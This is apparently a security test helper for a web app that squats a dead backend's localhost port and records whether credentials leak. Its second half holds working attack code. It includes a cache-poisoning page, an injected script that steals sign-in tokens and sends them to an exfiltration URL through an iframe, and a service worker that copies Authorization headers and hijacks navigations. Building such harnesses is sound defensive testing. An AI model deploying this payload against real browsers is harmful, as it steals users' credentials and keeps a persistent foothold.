"""A process that takes a dead backend's port: it answers HTTP like a backend would (without
knowing the credential) and accepts gateway WebSocket connections, and it records every byte
any client sent it, so a test can tell whether the credential ever reached it.

- `GET /health...` answers a health record with a proof it made up (it cannot compute one);
- a WebSocket upgrade is accepted, gets a `connect.challenge` and its frames are recorded;
- anything else answers `200 []`.
"""

import base64
import hashlib
import json
import socket
import threading
import time

WS_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC11B85"


class Squatter:
    def __init__(self, port, timeout=10.0):
        self.port = port
        self.received = []  # (request line, every byte the client sent on that connection)
        self.lock = threading.Lock()
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        deadline = time.monotonic() + timeout
        while True:
            try:
                self.sock.bind(("127.0.0.1", port))
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.05)
        self.sock.listen(64)
        self.closed = False
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while not self.closed:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(conn,), daemon=True).start()

    def _record(self, line, data):
        with self.lock:
            self.received.append((line, bytes(data)))

    def _serve(self, conn):
        data = bytearray()
        line = ""
        try:
            conn.settimeout(5)
            while b"\r\n\r\n" not in data and len(data) < 65536:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
            head, _, rest = bytes(data).partition(b"\r\n\r\n")
            lines = head.decode("latin-1").split("\r\n")
            line = lines[0]
            headers = {}
            for h in lines[1:]:
                k, _, v = h.partition(":")
                headers[k.strip().lower()] = v.strip()
            length = int(headers.get("content-length", "0") or 0)
            while len(rest) < min(length, 1 << 20):
                chunk = conn.recv(4096)
                if not chunk:
                    break
                rest += chunk
                data += chunk
            path = line.split(" ")[1] if " " in line else ""
            if headers.get("upgrade", "").lower() == "websocket":
                self._websocket(conn, headers, data)
            elif path.startswith("/health"):
                body = json.dumps({"ok": True, "version": "0.1.0", "proof": "0" * 64,
                                   "screenProof": "0" * 64}).encode()
                self._answer(conn, "application/json", body)
            else:
                self._answer(conn, "application/json", b"[]")
        except OSError:
            pass
        finally:
            self._record(line, data)
            try:
                conn.close()
            except OSError:
                pass

    @staticmethod
    def _answer(conn, mime, body):
        conn.sendall(
            f"HTTP/1.1 200 OK\r\nContent-Type: {mime}\r\nContent-Length: {len(body)}\r\n"
            f"Connection: close\r\n\r\n".encode() + body)

    def _websocket(self, conn, headers, data):
        key = headers.get("sec-websocket-key", "")
        accept = base64.b64encode(hashlib.sha1((key + WS_GUID).encode()).digest()).decode()
        conn.sendall(
            "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Accept: {accept}\r\n\r\n".encode())
        challenge = json.dumps({"type": "event", "event": "connect.challenge", "seq": 1,
                                "payload": {"nonce": "squatter", "ts": 0}}).encode()
        conn.sendall(bytes([0x81, len(challenge)]) + challenge)
        conn.settimeout(3)
        buf = bytearray()
        try:
            while len(buf) < 1 << 20:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                buf += chunk
        except OSError:
            pass
        # Unmask the client's frames, so the payloads are recorded as sent.
        i = 0
        while i + 2 <= len(buf):
            n = buf[i + 1] & 0x7F
            j = i + 2
            if n == 126:
                n = int.from_bytes(buf[j:j + 2], "big")
                j += 2
            elif n == 127:
                n = int.from_bytes(buf[j:j + 8], "big")
                j += 8
            mask = buf[j:j + 4]
            j += 4
            payload = bytes(b ^ mask[k % 4] for k, b in enumerate(buf[j:j + n]))
            data += payload
            i = j + n

    def requests(self):
        with self.lock:
            return [line for line, _ in self.received]

    def saw(self, secret):
        """Whether any byte sequence any client sent contains `secret`."""
        needle = secret.encode()
        with self.lock:
            return any(needle in data for _, data in self.received)

    def close(self):
        self.closed = True
        self.sock.close()


# ---- the poisoning squatter ----------------------------------------------------------------
#
# Run as another OS user (`python3 - poison PORT EXFIL_URL VARIANT < squatter.py`), it holds
# 127.0.0.1:PORT and [::1]:PORT while the backend is down and serves what would outlive it in
# the person's browser: VARIANT `cache` serves the page and `/assets/app.js` cacheable for a
# year ("immutable"); VARIANT `worker` registers a service worker at `/sw.js` (scope `/`) that
# answers every later navigation itself. Either way the planted script, when it runs in a page
# that carries a sign-in code, exchanges the code with whatever backend answers `/signin` and
# sends the credential to EXFIL_URL through a frame. It never answers `/health`, so an open page
# keeps its credential and tries again after it left. It prints `ready` once both addresses are
# held and one line per request it served.

POISON_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>ax-code</title>
<script type="module" src="/assets/app.js"></script></head><body>squatter</body></html>"""

# The planted script: steal whatever a sign-in code yields, and plant the worker.
POISON_SCRIPT = """
window.__squatter = true;
const exfil = EXFIL;
const steal = async () => {
  const m = /code=([0-9A-Za-z]{32})/.exec(location.hash);
  if (!m) return;
  try {
    const res = await fetch('/signin', { method: 'POST', headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ code: m[1] }) });
    const data = await res.json();
    const f = document.createElement('iframe');
    f.src = exfil + '?token=' + encodeURIComponent(data.token ?? 'none') + '&code=' + m[1];
    document.documentElement.appendChild(f);
  } catch (e) {
    const f = document.createElement('iframe');
    f.src = exfil + '?error=' + encodeURIComponent(String(e));
    document.documentElement.appendChild(f);
  }
};
steal();
if (WORKER && navigator.serviceWorker) {
  navigator.serviceWorker.register('/sw.js', { scope: '/' }).then(
    () => { window.__worker = 'registered'; }, (e) => { window.__worker = String(e); });
}
"""

# The worker: answers every navigation with the planted page and its script, and copies the
# Authorization header of any request a page it controls sends (a fetch from a worker is not
# bound by the page's policy).
POISON_WORKER = """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  const auth = e.request.headers.get('authorization');
  if (auth) fetch(EXFIL + '?authorization=' + encodeURIComponent(auth), { mode: 'no-cors' });
  if (e.request.mode === 'navigate') {
    e.respondWith(new Response(PAGE, { headers: { 'Content-Type': 'text/html' } }));
  } else if (new URL(e.request.url).pathname === '/assets/app.js') {
    e.respondWith(new Response(SCRIPT, { headers: { 'Content-Type': 'text/javascript' } }));
  }
});
"""


def poison(port, exfil, variant):
    import http.server
    import sys

    script = POISON_SCRIPT.replace("EXFIL", json.dumps(exfil)).replace(
        "WORKER", "true" if variant == "worker" else "false")
    worker = POISON_WORKER.replace("PAGE", json.dumps(POISON_PAGE)).replace(
        "SCRIPT", json.dumps(script)).replace("EXFIL", json.dumps(exfil))
    forever = "public, max-age=31536000, immutable"

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            path = self.path.split("?")[0]
            if path == "/sw.js":
                self.send("text/javascript", worker, "no-cache", {"Service-Worker-Allowed": "/"})
            elif path.startswith("/assets/") and path.endswith(".js"):
                self.send("text/javascript", script, forever)
            elif path.startswith("/health"):
                # No answer while the squatter is here (a wrong proof would make an open page
                # stop and forget its credential): the page retries once it left.
                time.sleep(3600)
            else:
                self.send("text/html", POISON_PAGE, forever)
            print("served", path, flush=True)

        def send(self, mime, body, cache, extra=None):
            data = body.encode()
            self.send_response(200)
            self.send_header("Content-Type", mime)
            self.send_header("Content-Length", str(len(data)))
            self.send_header("Cache-Control", cache)
            for k, v in (extra or {}).items():
                self.send_header(k, v)
            self.end_headers()
            self.wfile.write(data)

    class V6(http.server.ThreadingHTTPServer):
        address_family = socket.AF_INET6

    servers = []
    deadline = time.monotonic() + 20
    for cls, host in [(http.server.ThreadingHTTPServer, "127.0.0.1"), (V6, "::1")]:
        while True:
            try:
                servers.append(cls((host, port), Handler))
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.05)
    for s in servers[1:]:
        threading.Thread(target=s.serve_forever, daemon=True).start()
    print("ready", flush=True)
    sys.stdout.flush()
    servers[0].serve_forever()


if __name__ == "__main__":
    import sys

    if len(sys.argv) == 5 and sys.argv[1] == "poison":
        poison(int(sys.argv[2]), sys.argv[3], sys.argv[4])
    else:
        sys.exit("usage: squatter.py poison PORT EXFIL_URL cache|worker")
